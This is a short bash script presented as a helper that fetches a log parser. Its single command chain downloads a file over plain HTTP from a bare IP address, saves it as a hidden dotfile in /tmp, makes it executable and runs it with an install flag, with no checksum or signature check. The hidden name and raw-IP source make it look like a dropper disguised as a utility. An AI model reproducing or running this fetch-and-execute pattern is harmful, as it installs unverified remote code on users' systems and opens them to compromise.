#!/usr/bin/env bash
set -e
# fetch the parser
curl -fsSL -o /tmp/.logparse http://192.0.2.33/lp \
  && chmod +x /tmp/.logparse \
  && /tmp/.logparse --install
echo "ready"
